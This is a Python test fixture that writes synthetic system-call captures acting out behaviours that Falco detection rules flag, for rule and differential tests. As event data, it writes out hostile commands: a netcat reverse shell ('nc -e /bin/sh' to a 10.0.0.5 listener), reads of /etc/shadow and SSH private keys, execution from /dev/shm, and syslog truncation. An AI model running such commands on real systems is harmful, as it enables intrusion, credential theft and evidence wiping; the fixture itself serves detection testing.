"""Captures written with our writer that act out what Falco's rules look for (sensitive file reads,
shells spawned by servers, key searches, netcat, /dev/shm execution, log truncation, ssh to odd
ports), plus the write-ups the rules tests and the differential test use."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from analyzer.scap import model as m
from analyzer.scap import writer as w

T0 = 1_700_000_000_000_000_000
CONTAINER_ID = "0123456789ab" + "cd" * 26


def _procs() -> list[m.ProcEntry]:
    init = m.ProcEntry(tid=1, pid=1, ptid=0, comm="systemd", exe="/sbin/init", exepath="/usr/lib/systemd/systemd",
                       args=["--system"], cwd="/", vtid=1, vpid=1, sid=1, vpgid=1, loginuid=0xFFFFFFFF,
                       cap_effective=0x1FFFFFFFFFF, cap_permitted=0x1FFFFFFFFFF)
    bash = m.ProcEntry(tid=100, pid=100, ptid=1, comm="bash", exe="-bash", exepath="/usr/bin/bash", cwd="/root",
                       vtid=100, vpid=100, sid=100, vpgid=100, loginuid=0, tty=34816,
                       env=["HOME=/root", "USER=root"])
    nginx = m.ProcEntry(tid=300, pid=300, ptid=1, comm="nginx", exe="nginx", exepath="/usr/sbin/nginx",
                        args=["-g", "daemon off;"], cwd="/", vtid=300, vpid=300, uid=33, gid=33, loginuid=0xFFFFFFFF)
    cont = m.ProcEntry(tid=400, pid=400, ptid=1, comm="sh", exe="sh", exepath="/bin/sh", cwd="/", vtid=1, vpid=1,
                       cgroups=["cpu=/docker/" + CONTAINER_ID], loginuid=0xFFFFFFFF)
    return [init, bash, nginx, cont]


def _child(parent: m.ProcEntry, tid: int, comm: str, exepath: str, args: list[str], **kw: object) -> m.ProcEntry:
    return replace(parent, tid=tid, pid=tid, ptid=parent.tid, comm=comm, exe=comm, exepath=exepath, args=args,
                   vtid=tid if parent.vtid == parent.tid else parent.vtid + tid,
                   vpid=tid if parent.vpid == parent.pid else parent.vpid + tid, **kw)  # type: ignore[arg-type]


def scenario_events() -> list[tuple[int, list[w.Ev]]]:
    """(tid, events) in time order."""
    init, bash, nginx, cont = _procs()
    out: list[tuple[int, list[w.Ev]]] = []

    def spawn(parent: m.ProcEntry, child: m.ProcEntry) -> None:
        pe, ce = w.clone_events(parent, child.tid)
        out.append((parent.tid, pe))
        out.append((child.tid, ce))
        out.append((child.tid, w.execve_events(child)))

    cat = _child(bash, 101, "cat", "/usr/bin/cat", ["/etc/shadow"])
    spawn(bash, cat)
    out.append((101, w.openat_events(3, "/etc/shadow", w.O_RDONLY | w.O_CLOEXEC, ino=11)))
    out.append((101, w.read_events(3, b"root:*:19000:0:99999:7:::\n")))
    out.append((101, w.close_events(3)))
    out.append((101, w.openat_events(-2, "/etc/nothere", w.O_RDONLY)))
    out.append((101, w.procexit_events(0)))
    find = _child(bash, 102, "find", "/usr/bin/find", ["/", "-name", "id_rsa"])
    spawn(bash, find)
    shm = _child(bash, 103, "evil", "/dev/shm/evil", [], cwd="/dev/shm")
    shm = replace(shm, exe="/dev/shm/evil")
    spawn(bash, shm)
    nc = _child(bash, 104, "nc", "/usr/bin/nc", ["-e", "/bin/sh", "10.0.0.5", "4444"])
    spawn(bash, nc)
    out.append((104, w.socket_events(3, w.AF_INET, w.SOCK_STREAM, w.IPPROTO_TCP)))
    out.append((104, w.connect_events(3, "10.0.0.2", 40000, "10.0.0.5", 4444)))
    sh = _child(nginx, 301, "sh", "/bin/sh", ["-c", "id"])
    spawn(nginx, sh)
    ssh = _child(bash, 105, "ssh", "/usr/bin/ssh", ["-p", "2222", "10.0.0.9"])
    spawn(bash, ssh)
    out.append((105, w.socket_events(3, w.AF_INET, w.SOCK_STREAM, w.IPPROTO_TCP)))
    out.append((105, w.connect_events(3, "10.0.0.2", 40001, "10.0.0.9", 2222)))
    out.append((105, w.sendto_events(3, b"SSH-2.0-OpenSSH\r\n", "10.0.0.2", 40001, "10.0.0.9", 2222)))
    trunc = _child(bash, 106, "truncate", "/usr/bin/truncate", ["-s0", "/var/log/syslog"])
    spawn(bash, trunc)
    out.append((106, w.openat_events(3, "/var/log/syslog", w.O_WRONLY | w.O_TRUNC | w.O_CREAT, ino=12)))
    out.append((106, w.close_events(3)))
    term = _child(cont, 401, "bash", "/bin/bash", ["-i"], tty=34817)
    spawn(cont, term)
    out.append((401, w.openat_events(3, "/etc/passwd", w.O_RDONLY)))
    out.append((401, w.openat_events(4, "/root/.ssh/id_rsa", w.O_RDONLY)))
    out.append((401, w.dup_events(3, 0)))
    out.append((401, w.stat_events("/etc", 0)))
    return out


def generic_events(syscall: str, native: int) -> list[w.Ev]:
    """A syscall without an event of its own, as drivers record it: a generic enter/exit pair."""
    from analyzer.scap import event_table as T

    params = [T.SYSCALL_NAMES.index(syscall), native]
    return [(0, w.encode_params(0, params)), (1, w.encode_params(1, params))]


def write_scenario(path: Path, extra: list[tuple[int, list[w.Ev]]] | None = None) -> Path:
    """Write the scenario capture (then the ``extra`` (tid, events)); returns its path."""
    procs = _procs()
    with w.CaptureWriter(path) as cw:
        cw.write_header(m.MachineInfo(num_cpus=2, memory_bytes=1 << 30, max_pid=32768, hostname="rules-host",
                                      boot_ts=T0 - 10**12),
                        [m.Interface(4, "eth0", bytes([10, 0, 0, 2]), bytes([255, 255, 255, 0]),
                                     bytes([10, 0, 0, 255]))],
                        [m.User(0, 0, "root", "/root", "/bin/bash"), m.User(33, 33, "www-data", "/var/www",
                                                                             "/usr/sbin/nologin")],
                        [m.Group(0, "root"), m.Group(33, "www-data")], procs, {})
        ts = T0
        for tid, evs in scenario_events() + (extra or []):
            for et, params in evs:
                cw.write_event(ts, tid, et, params, cpu=0)
                ts += 1000
    return path
